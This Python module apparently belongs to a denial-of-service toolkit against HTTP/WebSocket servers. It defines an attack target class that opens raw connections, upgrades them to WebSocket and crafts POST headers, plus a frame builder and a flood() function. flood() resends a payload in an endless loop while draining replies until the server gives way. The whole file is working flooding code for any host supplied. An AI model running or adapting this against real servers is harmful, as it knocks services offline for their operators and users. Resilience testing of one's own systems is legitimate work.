"""What an attack is, and the connections that it needs."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Final

#: An innocent mask: with zeros the payload stays as it is.
_MASK: Final = bytes(4)
_FIN: Final = 0x80
_MASKED: Final = 0x80

TEXT: Final = 0x1
CONTINUATION: Final = 0x0
PING: Final = 0x9


@dataclass(frozen=True, slots=True)
class Aim:
    """The server that is attacked, at *path* of *host* and *port*."""

    host: str
    port: int
    path: str

    def connect(self) -> socket.socket:
        """Return a new connection."""
        connection = socket.create_connection((self.host, self.port), timeout=30)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def upgrade(self) -> socket.socket:
        """Return a new connection that has become a WebSocket."""
        connection = self.connect()
        connection.sendall(
            f"GET {self.path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
        )
        answer = b""
        while not answer.endswith(b"\r\n\r\n"):
            part = connection.recv(1)
            if not part:
                raise ConnectionError("the server refused the WebSocket")
            answer += part
        return connection

    def head(self, length: int, *lines: str) -> bytes:
        """Return the head of a POST with a body of *length* bytes and further header *lines*."""
        more = "".join(f"{line}\r\n" for line in lines)
        start = f"POST {self.path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
        return f"{start}Content-Type: application/json\r\nContent-Length: {length}\r\n{more}\r\n".encode()


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack. `run` attacks on one connection, or one after the other, until its process is ended."""

    name: str
    about: str
    run: Callable[[Aim], None]


def frame(opcode: int, payload: bytes, *, final: bool = True) -> bytes:
    """Return a frame of a client."""
    first, size = opcode | (_FIN if final else 0), len(payload)
    if size < 126:
        head = bytes([first, _MASKED | size])
    elif size < 0x10000:
        head = bytes([first, _MASKED | 126]) + size.to_bytes(2, "big")
    else:
        head = bytes([first, _MASKED | 127]) + size.to_bytes(8, "big")
    return head + _MASK + payload


def flood(connection: socket.socket, blast: bytes) -> None:
    """Send *blast* again and again, and read what is answered, until the server ends the connection."""
    threading.Thread(target=_drain, args=(connection,), daemon=True).start()
    with suppress(OSError), connection:
        while True:
            connection.sendall(blast)


def _drain(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(1 << 20):
            pass
